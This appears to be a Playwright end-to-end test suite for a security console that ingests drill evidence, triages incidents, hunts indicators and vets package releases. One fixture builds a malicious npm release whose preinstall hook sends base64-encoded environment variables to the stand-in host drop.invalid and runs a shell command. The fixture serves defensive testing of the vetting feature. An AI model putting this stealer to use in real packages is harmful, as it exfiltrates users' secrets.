import { readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { run, temporaryFolder } from './support/cli.ts'
import { heading, type OpenConsole, openConsole, person, pictureOnFailure, settled, setUpAccount, visit } from './support/console.ts'
import { accessibilityFaults, consoleAddresses, nowhere } from './support/console-pages.ts'
import { packTarball } from './support/pack.ts'

let console: OpenConsole
let page: Page
const folder = temporaryFolder()
const evidence = join(folder.path, 'evidence')
const dialog = '[role=dialog]'

beforeAll(async () => {
  const { code, stderr } = await run('drill', evidence, '--case', '3cx', '--hosts', '60', '--days', '60')
  expect([code, stderr]).toEqual([0, ''])
  console = await openConsole(join(folder.path, 'workspace'))
  page = console.page
}, 300_000)

beforeEach(() => pictureOnFailure(page))

afterAll(async () => {
  await console?.[Symbol.asyncDispose]()
  folder[Symbol.dispose]()
})

describe('the console, from the first start on', () => {
  test('is set up with the link that the service printed, and asks for a second factor', async () => {
    const context = await console.browser.newContext()
    const welcome = await context.newPage()
    await welcome.goto(console.setUp)
    await welcome.getByLabel('Your name').waitFor()
    expect(await accessibilityFaults(welcome)).toEqual([])
    await context.close()
    await setUpAccount(page, console.setUp)
    await page.getByText('Nothing is known yet').waitFor()
    // The secret of the link stays in no history, and opens nothing again.
    await page.goBack()
    expect(page.url()).not.toContain('#')
    await page.goto(console.setUp)
    await page
      .getByText(/link .*(used|no longer|not)/i)
      .first()
      .waitFor()
  })

  test('hides what is typed as a password, lets it be pasted, and says to password managers what it is', async () => {
    const context = await console.browser.newContext()
    const stranger = await context.newPage()
    await visit(stranger, console.url)
    await heading(stranger, 'Sign in').waitFor()
    const field = stranger.getByLabel('Password', { exact: true })
    expect(await field.getAttribute('type')).toBe('password')
    expect(await field.getAttribute('autocomplete')).toBe('current-password')
    const isTaken = await field.evaluate((input) => input.dispatchEvent(new ClipboardEvent('paste', { bubbles: true, cancelable: true })))
    expect(isTaken).toBe(true)
    expect(await accessibilityFaults(stranger)).toEqual([])
    await context.close()
  })

  test('takes a passkey that knows its person, and signs in with it alone', async () => {
    const devtools = await console.context.newCDPSession(page)
    await devtools.send('WebAuthn.enable')
    const options = { protocol: 'ctap2', transport: 'internal', hasResidentKey: true, hasUserVerification: true, isUserVerified: true } as const
    await devtools.send('WebAuthn.addVirtualAuthenticator', { options: { ...options, automaticPresenceSimulation: true } })
    await visit(page, `${console.url}/settings?part=account`)
    await page.getByRole('button', { name: 'Add a passkey' }).click()
    await page.getByLabel('Name of the passkey').fill('Test key')
    await page.getByRole('button', { name: 'Make a passkey' }).click()
    await page.getByRole('button', { name: 'Remove Test key' }).waitFor()
    await page.getByRole('button', { name: person.name }).click()
    await page.getByRole('menuitem', { name: 'Sign out' }).click()
    await heading(page, 'Sign in').waitFor()
    await page.getByRole('button', { name: 'Sign in with a passkey' }).click()
    await heading(page, 'Overview').waitFor()
  })

  test('takes the folder of the drill, reads it as one job that survives a reload, and names the culprit', { timeout: 300_000 }, async () => {
    await visit(page, `${console.url}/evidence`)
    await page.getByLabel('Choose a folder').last().setInputFiles(evidence)
    await page.getByRole('link', { name: 'how far it is' }).click({ timeout: 120_000 })
    await page.waitForURL(/job=/)
    await page.reload()
    await page.getByText('succeeded').first().waitFor({ timeout: 240_000 })
    await visit(page, console.url)
    await page.getByRole('region', { name: 'Verdict' }).getByText('HIT').waitFor()
    await page
      .getByRole('link', { name: /3CX Desktop App 18\.12\.416/ })
      .first()
      .click()
    await heading(page, /3CX Desktop App 18\.12\.416/).waitFor()
    for (const part of ['What happened', 'Timeline', 'Why we believe it, and what would make it innocent', 'Scope', 'Do now', 'Evidence', 'History']) {
      await page.getByRole('heading', { name: part, level: 2, exact: true }).waitFor()
    }
    await page
      .getByRole('img', { name: /hosts that talk to .* have 3CX Desktop App/ })
      .first()
      .waitFor()
  })

  test('takes several files that are dropped, and says which it did not take', async () => {
    await visit(page, `${console.url}/evidence`)
    const dropped = await page.evaluateHandle(() => {
      const data = new DataTransfer()
      data.items.add(new File(['host,product,version,installed_at\nkiosk-1,Cedar Phone,1.1,2023-03-01\n'], 'kiosk.csv'))
      data.items.add(new File(['host,product,version,installed_at\nkiosk-2,Cedar Phone,1.2,2023-03-02\n'], 'kiosk two.csv'))
      data.items.add(new File([], 'empty.log'))
      return data
    })
    await page.locator('.drop-zone').dispatchEvent('drop', { dataTransfer: dropped })
    const given = page.getByRole('region', { name: 'What was given' })
    await given.getByText('2 files taken').waitFor()
    await given.getByText('empty.log was not taken').waitFor()
    await given.getByRole('link', { name: 'how far it is' }).click()
    await page.locator('.job').first().getByText('succeeded').waitFor({ timeout: 100_000 })
    await visit(page, `${console.url}/evidence?text=kiosk`)
    await page.getByRole('table', { name: 'Sources' }).getByText('kiosk.csv').waitFor()
    await page.getByRole('table', { name: 'Sources' }).getByText('kiosk two.csv').waitFor()
  })

  test('triages an incident, and shows who was faster instead of overwriting', async () => {
    await visit(page, console.url)
    await page.locator('.top-incident a').first().click()
    await page.getByLabel('State').selectOption('Investigating')
    await page.getByRole('listitem').filter({ hasText: 'investigating' }).first().waitFor()
    const other = await console.context.newPage()
    await visit(other, page.url())
    await other.getByLabel('Assignee').selectOption(person.name)
    await other.getByRole('listitem').filter({ hasText: person.name }).first().waitFor()
    await other.close()
    await page.getByLabel('State').selectOption('Contained')
    await page.getByText('Somebody changed it meanwhile').waitFor()
    await page.getByRole('button', { name: /all the same/ }).click()
    await page.getByText('Somebody changed it meanwhile').waitFor({ state: 'hidden' })
    await page.getByLabel('Comment').fill('Isolated the two hosts.')
    await page.getByRole('button', { name: 'Add the comment' }).click()
    await page.getByRole('listitem').filter({ hasText: 'Isolated the two hosts.' }).waitFor()
  })

  test('writes a warning for others after the second factor, and shows first what would leave', async () => {
    await page.getByRole('button', { name: /Write a warning/ }).click()
    await page.getByRole('button', { name: 'Show what would leave' }).click()
    const save = page.getByRole('button', { name: /^Save .*html/ })
    await save.waitFor({ timeout: 120_000 })
    expect(await accessibilityFaults(page, dialog)).toEqual([])
    const download = page.waitForEvent('download')
    await save.click()
    expect(readFileSync(await (await download).path(), 'utf8')).toContain('3CX')
    await page.keyboard.press('Escape')
  })

  test('vets a release against the one before it', async () => {
    const manifest = (version: string, scripts: object) => JSON.stringify({ name: 'left-lantern', version, main: 'index.js', scripts })
    const files = { 'index.js': 'module.exports = (text) => text.trim()\n' }
    const before = join(folder.path, 'left-lantern-1.0.0.tgz')
    const now = join(folder.path, 'left-lantern-1.0.1.tgz')
    writeFileSync(before, packTarball({ ...files, 'package.json': manifest('1.0.0', {}) }))
    const stealer =
      "const cp = require('child_process'); const https = require('https'); https.get('https://drop.invalid/' + Buffer.from(JSON.stringify(process.env)).toString('base64'), () => cp.exec('id'))\n"
    writeFileSync(now, packTarball({ ...files, 'setup.js': stealer, 'package.json': manifest('1.0.1', { preinstall: 'node setup.js' }) }))
    await visit(page, `${console.url}/software/vetted`)
    await page.getByLabel('Choose the release', { exact: true }).last().setInputFiles(now)
    await page.getByLabel('Choose the one before').last().setInputFiles(before)
    await page.getByRole('button', { name: 'Vet it' }).click()
    await page.getByRole('link', { name: 'What came of it' }).click({ timeout: 100_000 })
    await heading(page, 'left-lantern 1.0.1').waitFor()
    await page
      .getByRole('region', { name: 'Verdict' })
      .getByText(/HOLD|BLOCK/)
      .waitFor()
    await page.getByRole('img', { name: /setup\.js/ }).waitFor()
  })

  test('hunts for what a warning names', async () => {
    await visit(page, `${console.url}/hunt`)
    await page.getByText('Paste the text of a warning').click()
    await page
      .getByLabel('Text of the warning')
      .fill('Indicators of the 3CX intrusion\n\nCommand and control: akamaicontainer[.]invalid, officestoragebox[.]invalid\n')
    await page.getByRole('button', { name: 'Hunt', exact: true }).click()
    await page.getByRole('link', { name: 'What came of it' }).click({ timeout: 100_000 })
    await page.getByRole('region', { name: 'Verdict' }).getByText('HIT').waitFor()
  })

  test('finds anything by name, goes by keyboard, and pivots in one step', async () => {
    await visit(page, `${console.url}/incidents/findings`)
    await page.getByRole('table', { name: 'Findings' }).waitFor()
    await page.keyboard.press('j')
    await page.keyboard.press('j')
    expect(new URL(page.url()).searchParams.get('at')).not.toBeNull()
    // The row takes the focus with the next frame.
    await page.waitForFunction(() => document.querySelector('tr[aria-current="true"] a') === document.activeElement)
    await page.keyboard.press('Enter')
    await page.waitForURL(/findings\/./)
    await settled(page)
    await page.locator('main .entity-link').first().click()
    await page.waitForURL(/\/entity\//)
    await page.keyboard.press('?')
    await page.getByRole('dialog', { name: 'Keyboard' }).waitFor()
    expect(await accessibilityFaults(page, dialog)).toEqual([])
    await page.keyboard.press('Escape')
    await page.keyboard.press('Control+k')
    await page.getByLabel('Search').fill('3CX')
    await page.getByRole('button', { name: /3CX/ }).first().waitFor()
    expect(await accessibilityFaults(page, dialog)).toEqual([])
    await page.keyboard.press('Escape')
  })

  test('is without violations of WCAG 2.2 AA on every page in both themes, nowhere wider than a telephone, and shows the way out everywhere', {
    timeout: 300_000,
  }, async () => {
    const faults: string[] = []
    for (const address of await consoleAddresses(page)) {
      await visit(page, console.url + address)
      faults.push(...(await accessibilityFaults(page)).map((fault) => `${address}: ${fault}`))
      // Its menu has “Sign out”. What is nowhere asks nobody who they are.
      if (address !== nowhere && !(await page.getByRole('button', { name: person.name }).isVisible())) faults.push(`${address}: no way out`)
    }
    expect(faults).toEqual([])
  })

  test('asked for nothing that the content policy refuses, and met no error', () => {
    expect(console.complaints).toEqual([])
  })
})
